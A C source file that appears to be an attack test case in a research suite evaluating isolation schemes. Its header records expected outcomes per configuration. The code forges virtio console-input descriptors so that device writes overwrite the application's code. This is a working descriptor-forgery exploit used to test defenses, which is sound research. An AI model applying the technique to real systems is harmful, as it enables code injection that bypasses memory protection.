/*
{
  "title": "The descriptors of the console's input pointed at the application's code, in a write window: the next line is instructions, whatever the page tables say",
  "precondition": "a write window, as uIO exports it",
  "reference": "Markettos et al., Thunderclap: Exploring Vulnerabilities in Operating System IOMMU Protection via DMA from Untrustworthy Peripherals, NDSS 2019; OASIS, Virtual I/O Device (VIRTIO) Version 1.2, 2022",
  "cells": {
    "none": {"outcome": "escaped"},
    "uio-mpk": {"outcome": "escaped"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"}
  }
}
*/
#include "attack.h"
#include "processor.h"

enum { INPUT_BYTES = 1024, DEVICE_WRITES = 2 };  // flags: VIRTQ_DESC_F_WRITE (virtio 1.2, section 2.7.5)

// Descriptors that lie ready for the console's input, behind the page of the application's data: an address, 32 bits of length, 16 of flags and 16 of the next one's number.
static int forge(volatile uint64_t *target) {
  int found = 0;
  for (uint64_t page = ((uint64_t)&count & ~0xfffull) + PAGE; page < 0x400000; page += PAGE) {
    if (!leaf((void *)page)) continue;
    for (uint64_t at = page; at < page + PAGE; at += 16) {
      volatile uint64_t *const descriptor = (volatile uint64_t *)at;
      const uint64_t address = descriptor[0], rest = descriptor[1];
      if ((uint32_t)rest != INPUT_BYTES || (rest >> 32 & 0xffff) != DEVICE_WRITES || address < 0x100000) continue;
      descriptor[0] = (uint64_t)target;
      found++;
    }
  }
  return found;
}

int main(void) {
  BYPASS(USHELL_WINDOW(forge((volatile uint64_t *)set_count)); return 0);
  GOAL_COUNT();
  return 0;
}
